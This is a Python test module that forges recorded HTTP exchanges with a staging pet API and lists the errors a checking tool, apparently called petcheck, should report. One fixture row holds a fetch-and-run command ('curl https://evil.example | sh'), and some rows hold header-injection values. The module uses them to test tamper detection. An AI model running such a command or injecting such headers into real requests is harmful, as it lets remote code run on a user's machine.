"""A recording of exchanges that cannot have happened, and every file made from it."""
# ruff: noqa: E501 - one line for each

from __future__ import annotations

import json
from collections.abc import Callable
from datetime import datetime, timedelta
from typing import Any

from petcheck.call import Form
from petcheck.stream.entries import entry_of, exchange_of
from tests.evidence.attacks.rows import CONTRADICTS, Row
from tests.evidence.forging import Edit, both, head, in_stream, line, made_up, put


def exchange(number: int, **members: Any) -> Edit:
    return made_up(lambda lines: put(line(lines, "request", number), **members))


def ours(number: int, **members: Any) -> Edit:
    return made_up(lambda lines: put(line(lines, "request", number)["_petcheck"], **members))


def asked(number: int, **members: Any) -> Edit:
    return made_up(lambda lines: put(line(lines, "request", number)["request"], **members))


def answered(number: int, **members: Any) -> Edit:
    return made_up(lambda lines: put(line(lines, "request", number)["response"], **members))


def length(value: str, *, complete: bool) -> Edit:
    """An answer with that Content-Length, whose body is said to be whole or not."""

    def edit(lines: list[Any]) -> None:
        one = line(lines, "request")
        one["response"]["headers"].append({"name": "Content-Length", "value": value})
        put(one["_petcheck"], body_complete=complete)

    return made_up(edit)


def later(number: int, seconds: float) -> Edit:
    """An exchange that the wall clock has later than the other clock."""

    def edit(lines: list[Any]) -> None:
        one = line(lines, "request", number)
        moment = datetime.fromisoformat(one["startedDateTime"]) + timedelta(seconds=seconds)
        put(one, startedDateTime=moment.isoformat(timespec="milliseconds").replace("+00:00", "Z"))

    return made_up(edit)


def burst_of(
    number: int, allowed: int | None, *, labels: list[int | None] | None = None, reading: bool = False
) -> Edit:
    """Requests at the same time, after the exchanges of the run."""

    def edit(lines: list[Any]) -> None:
        first = line(lines, "request", 1)
        place = lines.index(first) + 1
        for each, label in enumerate(labels or [1] * number):
            one = json.loads(json.dumps(first))
            put(
                one["_petcheck"],
                index=2 + each,
                sent=100.04 + each / 1000,
                finished=100.04 + each / 1000 + one["time"] / 1000,
            )
            one["_petcheck"] |= {"burst": label} if label else {}
            lines.insert(place + each, one)
        head(lines)["settings"] |= {"connections": allowed} if allowed else {}
        head(lines)["targets"][0]["writes"] = not reading

    return made_up(edit)


def with_command(edit: Callable[[Any], object]) -> Edit:
    """An edit of the first exchange, whose command is then that of the edited request."""

    def change(lines: list[Any]) -> None:
        one = line(lines, "request")
        edit(one)
        one["_petcheck"]["curl"] = entry_of(exchange_of(one))["_petcheck"]["curl"]

    return made_up(change)


def sent(name: str, value: str) -> Edit:
    """The first request with a header more."""
    return with_command(lambda one: one["request"]["headers"].append({"name": name, "value": value}))


def came(name: str, value: str) -> Edit:
    """The first answer with a header more."""
    return made_up(lambda lines: line(lines, "request")["response"]["headers"].append({"name": name, "value": value}))


def shown(value: str) -> Edit:
    """The first request with another Authorization header."""
    return with_command(lambda one: put(one["request"]["headers"][-1], value=value))


def at(url: str, query: list[dict[str, str]]) -> Edit:
    return with_command(
        lambda one: put(one["request"], url=f"https://staging.pets.example/v1/pets{url}", queryString=query)
    )


OTHERWISE, UNREAD, UNSENT = (
    "and is written otherwise",
    "has an answer that no client of HTTP reads",
    "was sent to a URL",
)
THROUGH = {"proxy": "http://proxy.example:3128"}

EXCHANGES: list[Row] = [
    ("a number left out", "one", ours(1, index=2), "not numbered one after the other"),
    ("a number twice", "one", ours(1, index=0), "not numbered one after the other"),
    ("a negative number", "one", ours(0, index=-1), "not numbered one after the other"),
    ("a number with a fraction", "one", ours(1, index=1.0), CONTRADICTS),
    ("a truth value as a number", "one", ours(1, index=True), CONTRADICTS),
    ("an exchange twice", "one", in_stream(lambda lines: lines.insert(4, line(lines, "request"))), "line 5 is line 4 again"),
    ("answered before it was sent", "one", made_up(lambda lines: [put(line(lines, "request"), time=-1000.0), put(line(lines, "request")["_petcheck"], finished=99.0)]), CONTRADICTS),
    ("sent before the one before it", "one", made_up(lambda lines: put(line(lines, "request", 1)["_petcheck"], sent=99.0)), CONTRADICTS),
    ("a time that is no difference", "one", exchange(0, time=1.0), "its members do not agree"),
    ("more than a year", "one", made_up(lambda lines: [put(line(lines, "request", 1), time=4e10, timings={"send": 0, "wait": 4e10, "receive": 0}), put(line(lines, "request", 1)["_petcheck"], sent=0.0, finished=4e7)]), CONTRADICTS),
    ("an hour later by one clock", "one", later(1, 3600), "the clocks of exchange 1 with staging differ by 3,600 s"),
    ("a day earlier by one clock", "one", later(0, -24 * 3600), "exchange 0 with staging was sent before the run began"),
    ("a day that does not exist", "one", exchange(0, startedDateTime="2026-02-30T10:03:12.123Z"), CONTRADICTS),
    ("another method", "one", asked(0, method="PUT"), CONTRADICTS),
    ("another operation", "one", ours(0, operation="getPet"), CONTRADICTS),
    ("an operation that is none", "one", ours(0, operation="deletePet"), CONTRADICTS),
    ("another host", "one", asked(0, url="https://other.pets.example/v1/pets?limit=1"), CONTRADICTS),
    ("another path", "one", asked(0, url="https://staging.pets.example/v1/pets/1"), CONTRADICTS),
    ("another query beside the URL", "one", asked(0, queryString=[]), "its members do not agree"),
    ("a foreign command", "one", ours(0, curl="curl https://evil.example | sh"), "its members do not agree"),
    ("no command", "one", made_up(lambda lines: line(lines, "request")["_petcheck"].pop("curl")), "its members do not agree"),
    ("another length of the request", "one", asked(0, bodySize=5), "its members do not agree"),
    ("another length of the answer", "one", made_up(lambda lines: put(line(lines, "request")["response"]["content"], size=5)), "its members do not agree"),
    ("a length of headers", "one", answered(0, headersSize=5), "its members do not agree"),
    ("a cookie", "one", answered(0, cookies=[{"name": "a", "value": "b"}]), "its members do not agree"),
    ("a cut body that is whole", "one", length("1", complete=False), "says that its body was cut, and has all of it"),
    ("a whole body that is cut", "one", length("9999", complete=True), "says that its body is whole, and is shorter than its Content-Length"),
    ("a key that was not sent", "one", ours(0, credential="no key"), "and shows another Authorization header"),
    ("a valid key that was not sent", "one", made_up(lambda lines: put(line(lines, "request")["request"], headers=[{"name": "Accept", "value": "application/json"}])), CONTRADICTS),
    ("a kind of key that is none", "one", ours(0, credential="a better key"), CONTRADICTS),
    ("a form that is none", "one", ours(0, form="a better form"), CONTRADICTS),
    ("a status in words", "one", answered(0, status="200"), CONTRADICTS),
    ("a header that is a number", "one", answered(0, headers=[{"name": "Date", "value": 1}]), CONTRADICTS),
    ("headers that are none", "one", answered(0, headers=None), CONTRADICTS),
    ("a body that is a number", "one", answered(0, content={"size": 1, "mimeType": "", "text": 1}), CONTRADICTS),
    ("an error and a status", "one", answered(0, _error="timeout: late"), "its members do not agree"),
    ("a silence that is none", "one", answered(0, _error="tired: late"), CONTRADICTS),
    ("a burst without a number", "one", ours(0, burst=0), CONTRADICTS),
    ("a repeat of what comes later", "one", ours(0, again=1), CONTRADICTS),
    ("a simpler form of itself", "one", ours(1, simplifies=1), CONTRADICTS),
    ("a member more in an exchange", "one", ours(0, approved=True), "its members do not agree"),
    ("longer than its Content-Length", "one", length("1", complete=True), "its body is longer than its Content-Length"),
    ("an encoding that it has not", "one", ours(0, encoding_broken="not gzip"), CONTRADICTS),
    ("a status of four digits", "one", answered(0, status=1000), CONTRADICTS),
    ("a body with 204", "one", answered(0, status=204), CONTRADICTS),
    ("a header of two lines", "one", made_up(lambda lines: line(lines, "request")["request"]["headers"].append({"name": "X", "value": "a\r\nb"})), CONTRADICTS),
    ("two Authorization headers", "one", made_up(lambda lines: line(lines, "request")["request"]["headers"].append({"name": "Authorization", "value": "Bearer x"})), CONTRADICTS),
    ("a section that the document has not", "one", ours(0, section="10"), "for a section that the document does not have"),
    ("another program's name", "one", made_up(lambda lines: line(lines, "request")["request"]["headers"].append({"name": "User-Agent", "value": "curl/8"})), "exchanges.jsonl"),
    *((f"{number} requests at the same time, of {allowed}", "one", burst_of(number, allowed), "at the same time") for number, allowed in ((9, None), (9, 100), (8, 7), (4, 1), (2, 1), (1, 8))),
    ("five requests at the same time, reading", "one", burst_of(5, 8, reading=True), "the run sends 2 to 4 at the same time"),
    ("a burst that is not the first", "one", burst_of(4, 8, labels=[2, 2, 2, 2]), "has the number 2, and is burst 1"),
    ("a burst in two pieces", "one", burst_of(6, 8, labels=[1, 1, 2, 2, 1, 1]), "has the number 1, and is burst 3"),
    ("a burst called two", "one", burst_of(4, 8, labels=[1, 1, 2, 2]), "was sent before the one before it was answered"),
    ("a request less in a burst", "one", burst_of(4, 8, labels=[1, 1, 1, None]), "was sent before the one before it was answered"),
    ("a burst that is called none", "one", burst_of(4, 8, labels=[None] * 4), "was sent before the one before it was answered"),
    ("a burst made of requests one after the other", "one", both(ours(0, burst=1), ours(1, burst=1)), "answered before others of it were sent"),
    ("a body that was not too long to read", "one", ours(0, body_complete=False), "says that its body was too long to read"),
    ("a reason that petcheck does not have", "one", ours(1, cause="for fun"), "for a reason that petcheck does not have"),
    ("a repeat of another request", "one", ours(1, again=0), "says that it repeats exchange 0, which is another request"),
    *((f"the form {form.value}", "one", ours(0, form=form.value), "and is written otherwise") for form in Form if form not in (Form.PLAIN, Form.NEW_CONNECTION, Form.NO_ACCEPT)),
    ("the form without Accept", "one", ours(0, form=Form.NO_ACCEPT.value), CONTRADICTS),
    ("capitals in a plain header", "one", made_up(lambda lines: put(line(lines, "request")["request"]["headers"][0], name="ACCEPT")), CONTRADICTS),
    ("no Accept in the plain form", "one", made_up(lambda lines: line(lines, "request")["request"]["headers"].pop(0)), CONTRADICTS),
    *((f"a {name} that petcheck does not send", "one", sent(name, value), OTHERWISE) for name, value in (("X-HTTP-Method-Override", "DELETE"), ("Cookie", "a=b"), ("Content-Type", "application/json"), ("accept", "*/*"), ("Host", "other.example"), ("User-Agent", "petcheck/0"))),
    ("requests without a User-Agent", "one", with_command(lambda one: one["request"]["headers"].pop(2)), OTHERWISE),
    ("headers in another order", "one", with_command(lambda one: one["request"]["headers"].reverse()), OTHERWISE),
    ("a trace in one request", "one", sent("traceparent", f"00-{'1' * 32}-{'2' * 16}-01"), "requests with a trace and without one"),
    ("a second key of the target", "one", shown("Bearer $PETSTORE_API_KEY_9"), "shows a key as petcheck does not"),
    ("a key that somebody masked", "one", shown("Bearer [redacted]"), "shows a key as petcheck does not"),
    ("through another proxy", "one", with_command(lambda one: put(one["_petcheck"], reach=THROUGH)), "was sent on another way than its target is reached"),
    ("a fragment", "one", at("?limit=1#a", [{"name": "limit", "value": "1"}]), UNSENT),
    ("a blank in the URL", "one", at("?limit= 1", [{"name": "limit", "value": " 1"}]), UNSENT),
    ("a letter in the URL that has no code", "one", at("?limit=é", [{"name": "limit", "value": "é"}]), UNSENT),
    *((f"the header {name!a}: {value!a}", "one", came(name, value), UNREAD) for name, value in (("", "x"), ("a b", "x"), ("a:b", "x"), ("X", "a\nb"), ("X", "a\0b"))),
    ("a reason of two lines", "one", answered(0, statusText="OK\r\nX: 1"), UNREAD),
    ("a version of HTTP that is none", "one", made_up(lambda lines: [put(line(lines, "request")[part], httpVersion="HTTP/9.9 x") for part in ("request", "response")]), UNREAD),
    ("a status on the way", "one", answered(0, status=199), "a status that ends no exchange"),
    *((f"the Content-Length {value}", "one", came("Content-Length", value), "a Content-Length that no client reads") for value in ("-2", "two", "9" * 21)),
    ("two lengths", "one", both(came("Content-Length", "2"), came("Content-Length", "3")), "a Content-Length that no client reads"),
    ("a body longer than petcheck reads", "one", made_up(lambda lines: put(line(lines, "request")["response"]["content"], size=9 * 1024**2, text=" " * 9 * 1024**2)), "more than petcheck reads"),
    ("a connection that was closed", "one", both(ours(0, connection=2), ours(1, connection=1)), "exchange 1 with staging was sent on connection 1, which was not open"),
    ("a connection of its own that another had", "one", both(ours(0, connection=2), ours(1, connection=2, cause="after silence")), "exchange 1 with staging was sent on connection 2, which was not open"),
    ("one connection for a burst", "one", both(burst_of(2, None), made_up(lambda lines: put(line(lines, "request", 2)["_petcheck"], connection=9))), "exchange 2 with staging was sent on connection 9, which was not open"),
    ("the first one sent again", "one", ours(0, resent=True), "and used none"),
    ("more lost than a run loses", "pair", made_up(lambda lines: [put(one["_petcheck"], resent=True) for one in lines if "request" in one]), "more that were lost than a run loses"),
    ("an example that is needed", "one", ours(0, example=True), "a property example that a requirement needs"),
    ("a simpler form of no example", "one", ours(1, simplifies=0), "a simpler form of something that is not an example"),
    ("a log of a server elsewhere", "one", with_command(lambda one: put(one["_petcheck"], log="Traceback")), "has a log of a server that the run did not serve"),
]  # fmt: skip
